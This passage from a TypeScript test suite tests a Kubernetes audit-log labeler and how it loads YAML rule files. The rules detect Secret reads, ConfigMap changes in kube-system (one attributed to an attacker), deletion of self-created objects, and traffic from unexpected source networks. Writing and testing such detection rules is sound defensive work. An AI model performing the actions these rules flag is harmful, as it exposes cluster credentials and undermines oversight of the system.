    expect((labels[0]!.matched.auditIDs as string[]).length).toBe(10);
  });

  it('cleanup label names the creating event', () => {
    const [create, del] = cases['cleanup-delete-own-creation']!.fires();
    const [label] = labelsOf('cleanup-delete-own-creation', [create!, del!]);
    expect(label!.auditID).toBe(del!.auditID);
    expect(label!.matched['first.auditID']).toBe(create!.auditID);
  });

  it('says the network rule is inactive without an allow-list', () => {
    const labeler = createAuditLabeler(builtIn);
    expect(labeler.inactive).toEqual([{ ruleId: 'unexpected-source-network', reason: expect.stringMatching(/no expected networks configured/) }]);
    expect(labeler.push(ev({ sourceIPs: ['198.51.100.7'] })).filter((l) => l.ruleId === 'unexpected-source-network')).toEqual([]);
  });

  it('refuses an allow-list entry that is not a CIDR', () => {
    expect(() => createAuditLabeler(builtIn, { allowedNetworks: ['10.0.0.0/33'] })).toThrow(InputError);
  });
});

describe('rule files', () => {
  let dir: string;
  beforeEach(async () => {
    dir = await mkdtemp(join(tmpdir(), 'rules-'));
  });
  afterEach(async () => {
    await rm(dir, { recursive: true, force: true });
  });

  it('a user directory adds rules and can override a built-in one', async () => {
    await writeFile(
      join(dir, 'mine.yaml'),
      `- id: configmap-write-kube-system
  title: ConfigMap changed in kube-system
  severity: medium
  description: Someone changed a kube-system ConfigMap (coredns-custom was changed by the attacker).
  match:
    verbs: [update, patch]
    resources: [core/configmaps]
    namespaces: [kube-system]
- id: secret-read
  title: Secret read (disabled here)
  severity: low
  description: too noisy for us
  enabled: false
  match: { verbs: [get], resources: [secrets] }
`,
    );
    const rules = await loadAuditRules({ userDirs: [dir] });
    expect(rules.map((r) => r.id)).toContain('configmap-write-kube-system');
    const labeler = createAuditLabeler(rules);
    expect(labeler.inactive).toContainEqual({ ruleId: 'secret-read', reason: 'disabled (enabled: false)' });
    const labels = labeler.push(ev({ verb: 'patch', objectRef: { resource: 'configmaps', namespace: 'kube-system', name: 'coredns-custom' } }));
    expect(labels.map((l) => l.ruleId)).toEqual(['configmap-write-kube-system']);
    expect(labeler.push(ev({ verb: 'get', objectRef: { resource: 'secrets', namespace: 'a', name: 'b' } })).map((l) => l.ruleId)).not.toContain('secret-read');
  });

  it.each([
    ['- id: Bad_Id\n  title: t\n  severity: low\n  description: d\n  match: { verbs: [get] }\n', /bad\.yaml: rule "Bad_Id" at id: lower-case/],
    ['- id: r1\n  title: t\n  severity: urgent\n  description: d\n  match: { verbs: [get] }\n', /bad\.yaml: rule "r1" at severity/],
    ['- id: r2\n  title: t\n  severity: low\n  description: d\n  match: { verbz: [get] }\n', /bad\.yaml: rule "r2" at match: .*verbz/],
    ['- id: r3\n  title: t\n  severity: low\n  description: d\n  match: { all: [{ path: "a..b", equals: 1 }] }\n', /bad\.yaml: rule "r3" at match\.all\.0\.path: "a\.\.b"/],
    [
      '- id: r4\n  title: t\n  severity: low\n  description: d\n  match: { all: [{ path: a, equals: 1, exists: true }] }\n',
      /rule "r4" at match\.all\.0: a predicate needs exactly one/,
    ],
    [
      '- id: r5\n  kind: threshold\n  title: t\n  severity: low\n  description: d\n  match: {}\n  groupBy: [user.username]\n  threshold: 1\n  windowSeconds: 60\n',
      /rule "r5" at threshold/,
    ],
    ['- id: r6\n  title: t\n  severity: low\n  description: d\n  match: { sourceIpNotIn: [10.0.0.0/40] }\n', /rule "r6" at match\.sourceIpNotIn\.0: use a CIDR/],
    [
      '- id: r7\n  title: t\n  severity: low\n  description: d\n  match: { any: [{ path: a, matches: "([" }] }\n',
      /rule "r7" at match\.any\.0\.matches: not a valid regular expression/,
    ],
    ['rules: {}\n', /bad\.yaml: expected a list of rules/],
    ['- id: r8\n  title: [unclosed\n', /bad\.yaml: not valid YAML/],
  ])('a broken rule file is refused with a message naming the file and the rule (%#)', async (text, message) => {
    await writeFile(join(dir, 'bad.yaml'), text);
    await expect(loadRulesDir(dir)).rejects.toThrow(message);
  });

  it('refuses one id declared in two user files', async () => {
    const rule = (id: string) => `- id: ${id}\n  title: t\n  severity: low\n  description: d\n  match: { verbs: [get] }\n`;
    await mkdir(join(dir, 'a'));
    await writeFile(join(dir, 'a', '1.yaml'), rule('dup'));
    await writeFile(join(dir, 'a', '2.yml'), rule('dup'));
    await expect(loadRulesDir(join(dir, 'a'))).rejects.toThrow(/2\.yml: rule "dup" is already declared in 1\.yaml/);
  });

  it('parses several YAML documents in one file', () => {
    const rules = parseRulesYaml(
      '- { id: a, title: t, severity: low, description: d, match: { verbs: [get] } }\n---\nrules:\n  - { id: b, title: t, severity: info, description: d, match: { verbs: [list] } }\n',
      'x.yaml',
    );
    expect(rules.map((r) => `${r.id}:${r.kind}:${r.file}`)).toEqual(['a:match:x.yaml', 'b:match:x.yaml']);
  });
});
